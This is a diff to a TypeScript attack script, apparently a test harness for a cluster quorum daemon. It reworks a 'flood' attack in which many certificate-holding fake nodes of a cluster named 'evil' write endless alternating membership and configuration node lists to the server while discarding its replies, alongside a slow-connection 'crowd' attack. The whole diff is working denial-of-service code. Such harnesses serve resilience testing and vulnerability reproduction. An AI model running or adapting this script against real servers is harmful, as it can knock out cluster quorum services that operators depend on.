@@ -4,6 +4,7 @@
  */
 import net from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
+import type tls from 'node:tls';
 import { encodeMessage } from '../../src/protocol/encode.ts';
 import { NodeClient } from '../qnetd/node-client.ts';
 import { initOptions } from '../qnetd/wire-options.ts';
@@ -17,18 +18,19 @@ export type Attack =
       readonly words: string;
       readonly slowly: string;
     }
-  /** A node with a certificate that changes its list of nodes without end. */
-  | {
-      readonly do: 'flood';
-      readonly port: number;
-      readonly caPem: string;
-      readonly certPem: string;
-      readonly keyPem: string;
-    };
+  /** Nodes of one cluster, with a certificate, that change their lists of nodes without end. */
+  | ({ readonly do: 'flood'; readonly port: number; readonly nodes: number } & FloodIdentity);
+
+interface FloodIdentity {
+  readonly caPem: string;
+  readonly certPem: string;
+  readonly keyPem: string;
+}
 
 const NODES_PER_ADDRESS = 1_000;
 const BYTE_EACH_MS = 700;
-const LISTED_NODES = 2_000;
+/** As many as are taken. */
+const LISTED_NODES = 384;
 
 async function crowd({ port, size, words, slowly }: Attack & { readonly do: 'crowd' }): Promise<void> {
   const [said, more] = [Buffer.from(words, 'base64'), Buffer.from(slowly, 'base64')];
@@ -54,22 +56,38 @@ async function crowd({ port, size, words, slowly }: Attack & { readonly do: 'cro
   console.log('over');
 }
 
-async function flood({ port, caPem, certPem, keyPem }: Attack & { readonly do: 'flood' }): Promise<void> {
+async function flood({ port, nodes, ...identity }: Attack & { readonly do: 'flood' }): Promise<void> {
+  const nodeInfo = Array.from({ length: LISTED_NODES }, (_, index) => ({ nodeId: index + 1, dataCenterId: 0 }));
+  const ringId = { nodeId: 1, seq: 4n };
+  // All of them say the same, so that every one of these lists is a new decision, of which every one of them is told.
+  const membership = encodeMessage('nodeList', { msgSeqNumber: 4, nodeListType: 'membership', ringId, nodeInfo });
+  const config = encodeMessage('nodeList', { msgSeqNumber: 4, nodeListType: 'changedConfig', nodeInfo });
+  const carriers: tls.TLSSocket[] = [];
+  for (let nodeId = 1; nodeId <= nodes; nodeId += 1) carriers.push(await floodingNode(port, nodeId, identity));
+  console.log('attacking');
+  const floods = carriers.map(async (carrier) => {
+    for (let at = 0; !carrier.destroyed; at += 1) {
+      carrier.write(at % 2 === 0 ? config : membership);
+      do await pause(1);
+      while (carrier.writableNeedDrain && !carrier.destroyed);
+    }
+  });
+  await Promise.all(floods);
+  console.log('over');
+}
+
+async function floodingNode(port: number, nodeId: number, { caPem, ...pair }: FloodIdentity): Promise<tls.TLSSocket> {
   const node = await NodeClient.connect(port);
   node.send('preinit', { msgSeqNumber: 1, clusterName: 'evil' });
   await node.answer();
   node.send('startTls', { msgSeqNumber: 2 });
-  const carrier = await node.secure({ caPem, pair: { certPem, keyPem } });
-  node.send('init', initOptions(1));
+  const carrier = await node.secure({ caPem, pair });
+  node.send('init', initOptions(nodeId, 120_000));
   await node.answer();
-  const nodeInfo = Array.from({ length: LISTED_NODES }, (_, index) => ({ nodeId: index + 1, dataCenterId: 0 }));
-  const change = encodeMessage('nodeList', { msgSeqNumber: 4, nodeListType: 'changedConfig', nodeInfo });
-  console.log('attacking');
-  while (!carrier.destroyed) {
-    if (carrier.write(change)) await pause(0);
-    else await Promise.race([new Promise((resolve) => carrier.once('drain', resolve)), pause(1_000)]);
-  }
-  console.log('over');
+  // What it is told it does not want to know.
+  carrier.removeAllListeners('data');
+  carrier.resume();
+  return carrier;
 }
 
 const attack: Attack = JSON.parse(process.argv[2] ?? '');
